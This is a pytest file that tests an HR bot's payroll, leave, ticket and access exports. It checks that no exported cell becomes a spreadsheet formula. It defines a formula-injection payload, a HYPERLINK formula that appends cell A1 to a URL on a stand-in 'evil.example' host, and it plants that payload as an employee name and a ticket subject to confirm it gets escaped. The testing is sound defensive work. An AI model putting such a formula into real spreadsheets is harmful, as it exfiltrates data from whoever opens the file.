"""What payroll and the books get: the days that lie in the month, what is owed, and no formula in any cell."""

import csv
import re
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.exports import write
from domain.people import Action
from handlers.approval.card import name_of
from handlers.spreadsheet import FORMULA, Table, written
from storage import people
from tests import desk
from tests.bot.conftest import Terminal
from tests.desk import Counter, press, words
from tests.handlers.access.systems import approved, company_with_systems, granted
from tests.handlers.ticket.helpdesk import asks, helpdesk

HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"Ana")'


@pytest.fixture
def july_to_august(database_url: str) -> None:
    """Ana is on leave from 29 July to 4 August, half a day of hers is not decided, and her name is a formula."""
    with desk.counter(database_url) as counter:
        counter.grant("ana", 20)
        counter.grant("eva", 5.5)
        ask(counter, date(2026, 7, 29), date(2026, 8, 4))
        assert words(counter.press(press("bruno", name_of(Action.APPROVE), "1:1"))) == ""
        ask(counter, date(2026, 8, 20), date(2026, 8, 20), halves="until_midday")
        with counter.db.write() as tx:
            people.save(tx, "ana@company.example", {"name": HOSTILE, "employee_id": "007", "cost_centre": "-12"})


def ask(counter: Counter, first: date, last: date, **more: str) -> None:
    assert counter.submit(counter.ask("ana", first, last, **more)).errors is None


def read(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.reader(lines))


def test_the_days_of_a_leave_that_lie_in_the_month(terminal: Terminal, july_to_august: None, tmp_path: Path) -> None:
    for month, expected in (
        ("2026-07", ["2026-07-29", "2026-07-31", "3"]),
        ("2026-08", ["2026-08-03", "2026-08-04", "2"]),
    ):
        file = tmp_path / f"{month}.csv"
        assert terminal(f"export absences {month} {file}").out == f"1 row in {file}\n"
        assert read(file) == [
            ["employee_id", "email", "name", "entity", "cost_centre", "type", "reference", "first", "last", "days"],
            ["007", "ana@company.example", f"'{HOSTILE}", "", "'-12", "vacation", "VAC-1", *expected],
        ]
    assert terminal(f"export absences 2026-09 {tmp_path / 'empty.csv'}").out.startswith("0 rows")


def test_what_is_owed_on_a_day(terminal: Terminal, july_to_august: None, tmp_path: Path) -> None:
    file = tmp_path / "owed.csv"
    terminal(f"export liability {file} --on 2026-07-31")
    assert [(row[1], row[-1]) for row in read(file)[1:]] == [
        ("ana@company.example", "17"),
        ("eva@company.example", "5.5"),
    ]
    terminal(f"export liability {file} --on 2026-08-31")
    assert [row[-1] for row in read(file)[1:]] == ["15", "5.5"]


def test_tickets_that_were_opened_on_a_day(terminal: Terminal, tmp_path: Path) -> None:
    with helpdesk(terminal.database_url) as counter:
        asks(counter, "ana", HOSTILE)
        asks(counter, "ana", "About my manager", category="people")
    file = tmp_path / "tickets.csv"
    assert terminal(f"export tickets {file} --since 2026-08-03 --until 2026-08-03").out == f"2 rows in {file}\n"
    assert [row[:4] for row in read(file)[1:]] == [
        ["TIC-1", "network", f"'{HOSTILE}", "ana@company.example"],
        ["TIC-2", "people", "", ""],
    ]
    assert terminal(f"export tickets {file} --since 2026-08-04").out.startswith("0 rows")


def test_who_has_access_to_what(terminal: Terminal, tmp_path: Path) -> None:
    with company_with_systems(terminal.database_url) as counter:
        granted(counter)
        approved(counter, by="carla")
    file, workbook = tmp_path / "access.csv", tmp_path / "access.xlsx"
    assert terminal(f"export access {file}").out == f"1 row in {file}\n", "what is not given yet is not there"
    header, row = read(file)
    assert dict(zip(header, row, strict=True))["in_policy"] == "no", "the shipped app.yaml names no system"
    assert row[:4] == ["ACC-1", "Ana Souza", "ana@company.example", "crm"]
    assert terminal(f"export access {workbook}").out.startswith("1 row")
    assert zipfile.is_zipfile(workbook)


def test_a_month_and_a_file_that_do_not_work(terminal: Terminal, july_to_august: None, tmp_path: Path) -> None:
    wrong = terminal(f"export absences 2026-13 {tmp_path / 'a.csv'}").err
    assert "'2026-13' is no month; write one such as 2026-08" in wrong
    assert "can't be written: No such file or directory" in terminal(f"export absences 2026-08 {tmp_path}/no/a.csv").err


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cell=st.text(st.characters(codec="utf-8", exclude_characters="\x00", exclude_categories=["Cs"]), max_size=30))
def test_whatever_somebody_is_called_no_cell_is_a_formula(tmp_path: Path, cell: str) -> None:
    for hostile in (cell, *(begin + cell for begin in FORMULA)):
        table = Table(("name",), [(hostile,)])
        write(table, tmp_path / "t.csv")
        (row,) = read(tmp_path / "t.csv")[1:] or [[""]]
        assert row == [] or not row[0].startswith(FORMULA)


def test_a_workbook_holds_words_as_words_and_days_as_days(tmp_path: Path) -> None:
    write(
        Table(("name", "on"), [(HOSTILE, date(2026, 8, 3)), ("https://evil.example", date(2026, 8, 4))]),
        tmp_path / "t.xlsx",
    )
    with zipfile.ZipFile(tmp_path / "t.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
        assert not [name for name in book.namelist() if "rels" in name and "worksheets" in name], "no links"
    assert "<f>" not in sheet
    assert "=HYPERLINK(" in strings
    assert re.findall(r'<c r="B\d" s="\d"><v>(\d+)</v>', sheet) == ["46237", "46238"]


@pytest.mark.parametrize(
    ("file", "sheet"),
    [
        ("tickets.xlsx", "tickets"),
        ("PAY-1.XLSX", "PAY-1"),
        ("what [is] owed: 'all'.xlsx", "what  is  owed  'all"),
        (f"{'absences ' * 4}.xlsx", "absences absences absences abse"),
        ("History.xlsx", "Sheet1"),
        ("'.xlsx", "Sheet1"),
    ],
)
def test_the_sheet_of_a_workbook_is_called_as_its_file_so_far_as_excel_takes_it(file: str, sheet: str) -> None:
    body = written(Table(("day",), [("Monday",)]), file)
    assert load_workbook(BytesIO(body)).sheetnames == [sheet]
